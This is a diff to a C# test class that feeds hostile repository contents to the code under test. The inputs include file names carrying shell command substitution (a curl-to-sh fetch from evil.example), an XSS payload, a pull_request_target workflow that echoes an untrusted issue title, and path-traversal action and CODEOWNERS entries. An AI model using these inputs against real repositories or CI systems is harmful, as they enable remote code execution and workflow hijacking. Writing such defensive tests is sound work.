@@ -113,11 +113,11 @@ public sealed partial class HostileContentsTests
             ("bin/`id` @mona <img src=x onerror=alert(1)>.exe", WatchedWorld.Program),
             ("bin/$(curl evil.example|sh)", WatchedWorld.Program),
             (".github/workflows/x.yml", "on: [pull_request_target]\njobs:\n  a:\n    runs-on: x\n    steps:\n    - run: echo ${{ github.event.issue.title }}\n"),
-            (".github/workflows/y.yml", "on: push\njobs:\n  a:\n    uses: ./../../victim/.github/workflows/x.yml\n  b:\n    runs-on: x\n    steps:\n    - uses: ./../../../etc\n    - uses: 'acme/victim/<!-- @mona -->@${{ github.token }}'\n"),
+            (".github/workflows/y.yml", "on: push\njobs:\n  a:\n    uses: ./../../victim/.github/workflows/x.yml\n  b:\n    runs-on: x\n    steps:\n    - uses: ./../../../etc\n    - uses: ./.\n    - uses: ./\n    - uses: tools/..@main\n    - uses: ../x@main\n    - uses: acme/.@v1\n    - uses: 'acme/victim/<!-- @mona -->@${{ github.token }}'\n"),
             ("templates/SECURITY.md", "Write to eve."),
             ("allstar/security.yaml", "action: fix\n"),
             (".gitmodules", "[submodule \"x\"]\npath = .allstar\nurl = ../victim\n"),
-            ("CODEOWNERS", "* @acme/owners eve@evil.example @mona\n../../victim @victor\n[x @y\n"),
+            ("CODEOWNERS", "* @acme/owners eve@evil.example @mona\n../../victim @victor\n[x @y\n/a @acme/.. @acme/. @.. @. @acme/ @/\n"),
             (".github/CODEOWNERS", "* @ghost\n"));
         if (index % 5 == 4)
         {
